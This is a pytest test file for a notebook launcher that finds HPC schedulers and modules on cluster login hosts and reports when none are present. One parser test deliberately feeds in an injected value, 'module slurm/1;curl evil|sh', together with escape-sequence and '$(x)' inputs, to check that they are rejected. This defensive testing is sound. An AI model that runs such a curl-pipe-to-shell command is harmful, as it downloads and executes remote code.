"""A machine without any of the schedulers: what is said of it, and that it is looked for in every place."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from notebook_launcher.cli.commands.clusters import clusters
from notebook_launcher.core.command_result import CommandResult
from notebook_launcher.core.errors import HostCommandFailed, SchedulerMissing
from notebook_launcher.hosts.login_setup import NONE
from notebook_launcher.planning.target import LaunchTarget
from notebook_launcher.profiles import ClusterProfile, load_profile
from notebook_launcher.schedulers.missing import FIND_SCHEDULERS, missing_scheduler, read_found
from notebook_launcher.session.open_context import find_scheduler


@pytest.mark.parametrize(
    ("found", "modules", "why", "hint"),
    [
        (
            (),
            (),
            "A login shell there finds none of sbatch, bsub, pbs_rsub, qconf.",
            "check that login.uni.example is",
        ),
        (
            ("qsub", "pbsnodes"),
            (),
            "not supported: Torque (found: pbsnodes, qsub).",
            "use a cluster with Slurm, LSF, PBS or Grid Engine",
        ),
        (("qsub",), (), "not supported: Torque or another PBS (found: qsub).", "use a cluster"),
        (("condor_submit",), (), "not supported: HTCondor (found: condor_submit).", "use a cluster"),
        (
            (),
            ("slurm/24.05", "slurm"),
            "A module may provide the commands: slurm/24.05, slurm.",
            "before each command there, with login_setup: launch-notebook init login.uni.example",
        ),
    ],
)
def test_what_there_is_instead_is_named(found: tuple[str, ...], modules: tuple[str, ...], why: str, hint: str) -> None:
    error = missing_scheduler("login.uni.example", found, modules)
    assert isinstance(error, SchedulerMissing)
    assert error.what == "None of Slurm, LSF, PBS and Grid Engine was found on login.uni.example."
    assert why in error.why
    assert hint in error.hint
    assert "--cluster here" not in error.hint, "that would be another machine"


def test_the_profile_loads_the_module_after_its_other_lines(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NOTEBOOK_LAUNCHER_CONFIG", str(tmp_path))
    others = ("module purge", "export X='ä 😀'")
    hint = missing_scheduler("login", (), ("slurm/24.05",), cluster="uni", setup=others).hint
    command = hint.partition("launch-notebook ")[2]
    done = CliRunner().invoke(clusters, ["edit", "uni", "--host", "login", *shlex.split(command)[3:]])
    assert (done.exit_code, shlex.split(command)[:3]) == (0, ["clusters", "edit", "uni"]), done.output
    assert load_profile("uni").login_setup == (*others, "module load slurm")
    assert missing_scheduler("login", (), ("slurm",), login="me@login").hint.endswith("launch-notebook init me@login")
    again = missing_scheduler("login", (), ("slurm/24.05",), cluster="uni", setup=("module load slurm",)).hint
    assert again == "login_setup has run it, and it brought no such command; try it there, after: ssh login"


def test_whether_a_module_may_help_can_be_asked_of_the_error() -> None:
    assert missing_scheduler("desk", (), ("slurm/24.05",), is_here=True).names_module
    assert not missing_scheduler("desk", ("qsub",), is_here=True).names_module


def test_this_machine_may_be_meant() -> None:
    assert missing_scheduler("desk", (), ("slurm/24.05",), is_here=True).hint.startswith(
        "first run: module load slurm "
    )
    assert missing_scheduler("desk", ("qsub",), is_here=True).hint.endswith(
        "or run JupyterLab on this machine itself: --cluster here"
    )


NAMES = "/sw/modules: gcc/12 slurm/ 'slurm/24.05(default)' slurm-drmaa lsf/10 'slurm/$(x)'"


def looked(folder: Path, *commands: str, modules: bool = False) -> tuple[list[str], list[str]]:
    """Run ``FIND_SCHEDULERS`` with these commands alone on the PATH, and a login file that makes up what it needs."""
    tools = folder / "tools"
    tools.mkdir(parents=True)
    for command in commands:
        (folder / command).write_text("#!/bin/sh\nexit 1\n")
        (folder / command).chmod(0o755)
    for tool in ("sed", "head", "timeout", "bash"):
        (tools / tool).symlink_to(str(shutil.which(tool)))
    module = f"module() {{ printf '%s\\n' {NAMES} >&2; }}\n" if modules else ""
    (folder / ".bash_profile").write_text(f"PATH={folder}:{tools}\n{module}")
    noise = "printf 'half a line'; "  # of a start-up file
    env = {"PATH": f"{folder}:{tools}", "HOME": str(folder)}
    done = subprocess.run(
        ["/bin/bash", "-c", noise + FIND_SCHEDULERS], env=env, capture_output=True, text=True, check=True
    )
    return read_found(done.stdout)


@pytest.mark.skipif(os.name != "posix", reason="a Bash script")
def test_commands_and_modules_are_found(tmp_path: Path) -> None:
    assert looked(tmp_path / "nothing") == ([], [])
    assert looked(tmp_path / "slurm", "sbatch", "qsub", modules=True) == (["sbatch", "qsub"], []), "no module is needed"
    assert looked(tmp_path / "torque", "qsub", "pbsnodes") == (["pbsnodes", "qsub"], [])
    assert looked(tmp_path / "module", modules=True) == ([], ["slurm/24.05", "lsf/10"])


def test_nothing_else_is_taken_for_a_module() -> None:
    lines = [
        "module purge",
        "module load slurm",
        "module slurm/1;curl evil|sh",
        "module slurm/24",
        "module slurm/\x1b[2J",
    ]
    assert read_found("\n".join(lines + ["module lsf"] * 9)) == ([], ["slurm/24", "lsf", "lsf"])


class Answers:
    """A host that answers the look in this way."""

    label, remote, login_setup = "login", True, NONE

    def __init__(self, text: str, code: int = 0) -> None:
        self.answer = CommandResult(code, text, "fork: Resource temporarily unavailable")

    def run(self, argv: list[str], **_: object) -> CommandResult:
        return self.answer


THERE = LaunchTarget(ClusterProfile(), None, None, "auto")


def test_a_scheduler_is_found_behind_whatever_the_login_prints() -> None:
    assert find_scheduler(Answers("welcome\nhalf\ncommand sbatch\ncommand qsub\n"), THERE) == "slurm"  # type: ignore[arg-type]
    assert find_scheduler(Answers("\ncommand bsub\n"), THERE) == "lsf"  # type: ignore[arg-type]
    assert find_scheduler(Answers("\ncommand qconf\ncommand qsub\n"), THERE) == "gridengine"  # type: ignore[arg-type]
    assert find_scheduler(Answers("\ncommand qsub\ncommand pbs_rsub\n"), THERE) == "pbs"  # type: ignore[arg-type]
    with pytest.raises(SchedulerMissing, match="login"):
        find_scheduler(Answers("\nsbatch: not here\n"), THERE)  # type: ignore[arg-type]
    with pytest.raises(HostCommandFailed) as caught:
        find_scheduler(Answers("", 254), THERE)  # type: ignore[arg-type]
    assert "fork" in caught.value.why
